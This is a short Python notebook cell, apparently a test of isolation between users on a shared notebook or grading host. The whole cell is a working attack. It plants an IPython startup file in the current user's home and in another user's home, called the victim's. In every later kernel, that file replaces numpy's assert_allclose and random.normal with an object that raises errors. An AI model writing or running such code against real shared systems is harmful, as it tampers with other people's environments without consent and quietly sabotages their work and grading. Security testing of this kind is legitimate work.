"""Leaves a start-up file for every later kernel of this user.

IPython runs what is in ~/.ipython/profile_default/startup: the victim's kernel, too.
"""

# %%
import os
from pathlib import Path

CODE = f"""
import IPython
{known.marker} = 'here'
class Broken:
    def __getattr__(self, name):
        raise RuntimeError('broken by another student')
import sys, numpy
numpy.testing.assert_allclose = numpy.random.normal = Broken()
"""
for home in {os.environ.get("HOME", "/"), known.home}:
    folder = Path(home, ".ipython/profile_default/startup")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "a.py").write_text(CODE)
